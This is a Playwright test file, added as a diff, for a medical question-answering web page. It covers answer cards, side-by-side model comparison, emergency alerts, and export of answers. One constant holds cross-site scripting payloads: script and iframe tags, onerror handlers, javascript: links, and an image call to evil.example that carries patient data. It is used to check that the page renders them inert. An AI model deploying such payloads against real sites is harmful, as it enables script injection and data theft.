@@ -1,0 +1,257 @@
+"""What the page makes of an answer: cards, text, two models side by side, an emergency; and what leaves with a person."""
+
+import json
+import time
+from collections.abc import Generator, Sequence
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from bedside.records import Delta, Generation, GenerationOptions, Message
+from bedside.runtime.scripted import ScriptedBackend
+from bedside.text.prompts import NOTICE
+from bedside.text.sections import NAMES
+
+from .conftest import PATIENCE_S, EndlessSpeaker, FailingSpeaker, Serving
+from .test_page import REPLY, article, ask
+
+SECTIONS = {
+    "Diagnosis": ["Right heart failure"],
+    "Differential": ["Constrictive pericarditis", "Superior vena cava obstruction"],
+    "Plan": ["Echocardiography", "Weigh the patient each day"],
+    "Red flags": ["Falling blood pressure"],
+    "What is missing": ["History of lung disease"],
+}
+CARDS = ("The right atrium is full.", json.dumps(SECTIONS))
+ANAPHYLAXIS = "He ate a peanut, has hives all over, swollen lips and wheezing. Blood pressure 84/46 mmHg."
+HOSTILE = (
+    "<img src=http://evil.example/x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n"
+    "![x](http://evil.example/y?q=patient) [click](javascript:document.title='owned') <b>bold</b>\n\n"
+    "[data](data:text/html,<script>1</script>) <style>body{display:none}</style> <iframe src=//evil.example></iframe>"
+)
+WATCH_SHIFTS = """() => {
+    window.shifts = [];
+    new PerformanceObserver((list) => window.shifts.push(
+        ...list.getEntries().filter((entry) => !entry.hadRecentInput).map((entry) => entry.value)
+    )).observe({ type: "layout-shift" });
+}"""
+
+
+class PacedSpeaker(ScriptedBackend):
+    """Says a word at a time, as slowly as a model."""
+
+    def stream(self, messages: Sequence[Message], options: GenerationOptions) -> Generator[Delta | Generation]:
+        for event in super().stream(messages, options):
+            time.sleep(0.03)
+            yield event
+
+
+def cards(where: Page | Locator) -> list[str]:
+    return where.locator(".card h5").all_inner_texts()
+
+
+def test_a_structured_answer_becomes_five_cards(serving: Serving, page: Page) -> None:
+    with serving(ScriptedBackend([CARDS])) as url:
+        page.goto(url)
+        ask(page, "What raises the JVP?")
+        expect(article(page)).to_have_attribute("aria-busy", "false")
+        expect(page.get_by_role("heading", name="Rapid diagnosis")).to_be_visible()
+        assert cards(page) == list(NAMES)
+        assert page.locator(".card li").all_inner_texts() == [item for items in SECTIONS.values() for item in items]
+        assert page.locator(".answer").inner_text() == ""
+
+
+def test_nothing_that_is_shown_moves_while_cards_stream_in(serving: Serving, page: Page) -> None:
+    with serving(PacedSpeaker([CARDS])) as url:
+        page.goto(url)
+        expect(page.get_by_text("Model: scripted")).to_be_visible()
+        page.evaluate(WATCH_SHIFTS)
+        ask(page, "What raises the JVP?")
+        expect(article(page)).to_have_attribute("aria-busy", "false")
+        assert cards(page) == list(NAMES)
+        assert sum(page.evaluate("window.shifts")) < 0.01
+
+
+def test_text_is_asked_for_in_the_settings_and_shown_as_the_server_renders_it(serving: Serving, page: Page) -> None:
+    speaker = ScriptedBackend([("", "**Bold** and\n\n- one\n- two")])
+    with serving(speaker) as url:
+        page.goto(url)
+        page.get_by_role("button", name="Settings").click()
+        page.get_by_label("Text", exact=True).check()
+        page.get_by_role("button", name="Done", exact=True).click()
+        ask(page, "What raises the JVP?")
+        expect(article(page).locator(".answer strong")).to_have_text("Bold")
+        expect(article(page).locator(".answer li")).to_have_count(2)
+        expect(article(page).get_by_text("Answered without visible reasoning.")).to_be_visible()
+    assert [options.schema for options in speaker.options] == [""]
+
+
+@pytest.mark.parametrize(
+    "answer", [HOSTILE, json.dumps({name: [HOSTILE[:110]] for name in NAMES})], ids=["text", "cards"]
+)
+def test_a_hostile_answer_does_nothing_and_calls_nobody(serving: Serving, page: Page, answer: str) -> None:
+    with serving(ScriptedBackend([(HOSTILE, answer)])) as url:
+        page.goto(url)
+        ask(page, HOSTILE)
+        expect(article(page)).to_have_attribute("aria-busy", "false")
+        expect(article(page)).to_contain_text("evil.example")
+        article(page).locator("summary").click()
+        expect(article(page).locator(".reasoning")).to_have_text(HOSTILE)
+        expect(page).to_have_title("Bedside")
+        acting = "article :is(img, script, style, iframe, b, [onerror]), article a:not([href^='http'])"
+        assert page.locator(acting).count() == 0
+
+
+def test_base_and_tuned_stream_side_by_side_and_one_stop_ends_both(serving: Serving, page: Page) -> None:
+    tuned, base = EndlessSpeaker(), EndlessSpeaker()
+    tuned.name, base.name = "demo", "demo-base"
+    with serving(tuned, base) as url:
+        page.goto(url)
+        page.get_by_label("Base against tuned").check()
+        ask(page, "Say much.")
+        voices = article(page).locator(".voice")
+        assert voices.locator(".speaker").all_inner_texts() == ["Answer of demo-base", "Answer of demo"]
+        for number in range(2):
+            expect(voices.nth(number).locator(".answer")).to_contain_text("word word")
+        left, right = (voices.nth(number).bounding_box() for number in range(2))
+        assert left
+        assert right
+        assert left["y"] == right["y"]
+        assert left["x"] + left["width"] < right["x"]
+        page.set_viewport_size({"width": 360, "height": 640})
+        upper, lower = (voices.nth(number).bounding_box() for number in range(2))
+        assert upper
+        assert lower
+        assert upper["x"] == lower["x"]
+        assert upper["y"] + upper["height"] < lower["y"]
+        page.keyboard.press("Escape")
+        assert tuned.closed.acquire(timeout=PATIENCE_S)
+        assert base.closed.acquire(timeout=PATIENCE_S)
+        expect(page.get_by_text("Stopped. What stands here is incomplete.")).to_have_count(2)
+
+
+def test_each_model_is_reminded_of_its_own_answer(serving: Serving, page: Page) -> None:
+    tuned = ScriptedBackend([("", "tuned 1"), ("", "tuned 2")], name="demo")
+    base = ScriptedBackend([("", "base 1"), ("", "base 2")], name="demo-base")
+    with serving(tuned, base) as url:
+        page.goto(url)
+        page.get_by_label("Base against tuned").check()
+        for number, question in enumerate(["one", "two"]):
+            ask(page, question)
+            expect(article(page, number)).to_have_attribute("aria-busy", "false")
+    assert [tuned.asked[1][-2].content, base.asked[1][-2].content] == ["tuned 1", "base 1"]
+
+
+def test_when_one_of_two_fails_the_other_goes_on(serving: Serving, page: Page) -> None:
+    tuned = ScriptedBackend([REPLY], name="demo")
+    broken = FailingSpeaker(RuntimeError("a bug"))
+    with serving(tuned, broken) as url:
+        page.goto(url)
+        page.get_by_label("Two models side by side").check()
+        ask(page, "What raises the JVP?")
+        expect(article(page)).to_contain_text(REPLY[1])
+        expect(article(page).locator(".voice").first).to_contain_text("The server refused")
+        expect(page.get_by_role("alert")).to_contain_text("The server refused")
+
+
+def test_one_model_offers_no_comparison(serving: Serving, page: Page) -> None:
+    with serving(ScriptedBackend([])) as url:
+        page.goto(url)
+        expect(page.get_by_text("Model: scripted")).to_be_visible()
+        expect(page.get_by_role("checkbox")).to_have_count(0)
+
+
+def test_an_emergency_is_the_first_thing_and_names_its_signs_and_its_source(serving: Serving, page: Page) -> None:
+    with serving(ScriptedBackend([CARDS])) as url:
+        page.set_viewport_size({"width": 360, "height": 640})
+        page.goto(url)
+        ask(page, ANAPHYLAXIS)
+        alarm = article(page).get_by_role("alert")
+        expect(alarm).to_contain_text("anaphylaxis")
+        expect(alarm).to_contain_text("Found in the text: ")
+        expect(alarm.locator(".alarm-title")).to_be_in_viewport()
+        for link in alarm.get_by_role("link").all():
+            assert "noreferrer" in (link.get_attribute("rel") or "")
+        expect(article(page)).to_have_attribute("aria-busy", "false")
+        expect(alarm.locator(".alarm-title")).to_be_in_viewport()
+        assert article(page).locator(":scope > *").first.get_attribute("role") == "alert"
+
+
+def test_an_emergency_stays_when_the_model_fails(serving: Serving, page: Page) -> None:
+    with serving(FailingSpeaker(RuntimeError("a bug"))) as url:
+        page.goto(url)
+        ask(page, ANAPHYLAXIS)
+        expect(page.locator("#failure")).to_be_visible()
+        expect(article(page).get_by_role("alert")).to_be_visible()
+        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
+
+
+def test_regenerate_draws_another_answer_in_place_of_the_last(serving: Serving, page: Page) -> None:
+    speaker = ScriptedBackend([("", "first"), ("", "second")])
+    with serving(speaker) as url:
+        page.goto(url)
+        ask(page, "What raises the JVP?")
+        expect(article(page)).to_contain_text("first")
+        page.get_by_role("button", name="Regenerate").click()
+        expect(article(page)).to_contain_text("second")
+        expect(page.get_by_role("article")).to_have_count(1)
+    assert [len(asked) for asked in speaker.asked] == [2, 2]
+    first, second = speaker.options
+    assert (first.temperature, second.temperature) == (0, 0.7)
+    assert first.seed != second.seed
+
+
+def test_a_copied_answer_carries_model_and_disclaimer(serving: Serving, page: Page) -> None:
+    with serving(ScriptedBackend([REPLY])) as url:
+        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+        page.goto(url)
+        ask(page, "What raises the JVP?")
+        page.get_by_role("button", name="Copy answer").click()
+        expect(page.get_by_role("button", name="Copied")).to_be_visible()
+        copied = page.evaluate("navigator.clipboard.readText()")
+    assert copied.startswith(REPLY[1] + "\n")
+    assert "scripted" in copied
+    assert NOTICE in copied
+
+
+def test_downloads_carry_question_reasoning_model_and_disclaimer(serving: Serving, page: Page, tmp_path: Path) -> None:
+    with serving(ScriptedBackend([CARDS])) as url:
+        page.goto(url)
+        ask(page, "What raises the JVP?")
+        saved = {}
+        for name in ("Markdown", "JSON"):
+            with page.expect_download() as waited:
+                page.get_by_role("button", name=name).click()
+            saved[name] = tmp_path / waited.value.suggested_filename
+            waited.value.save_as(saved[name])
+    text = saved["Markdown"].read_text(encoding="utf-8")
+    for part in (
+        NOTICE,
+        "What raises the JVP?",
+        "## Differential\n\n- Constrictive pericarditis",
+        CARDS[0],
+        "scripted",
+    ):
+        assert part in text
+    read = json.loads(saved["JSON"].read_text(encoding="utf-8"))
+    assert read["question"] == "What raises the JVP?"
+    assert {section["name"]: section["items"] for section in read["sections"]} == SECTIONS
+    assert (read["model"], read["notice"]) == ("scripted", NOTICE)
+
+
+def test_print_shows_one_answer_with_the_notice_and_no_controls(serving: Serving, page: Page) -> None:
+    with serving(ScriptedBackend([REPLY, CARDS])) as url:
+        page.goto(url)
+        for number, question in enumerate(["one", "two"]):
+            ask(page, question)
+            expect(article(page, number)).to_have_attribute("aria-busy", "false")
+        page.evaluate("window.print = () => {}")
+        article(page, 1).get_by_role("button", name="Print").click()
+        page.emulate_media(media="print")
+        expect(page.locator("article").first).to_be_hidden()
+        expect(page.locator(".card").first).to_be_visible()
+        expect(page.get_by_text(NOTICE)).to_be_visible()
+        expect(page.get_by_role("button")).to_have_count(0)
+        page.evaluate("dispatchEvent(new Event('afterprint'))")
+        expect(page.locator("article").first).to_be_visible()
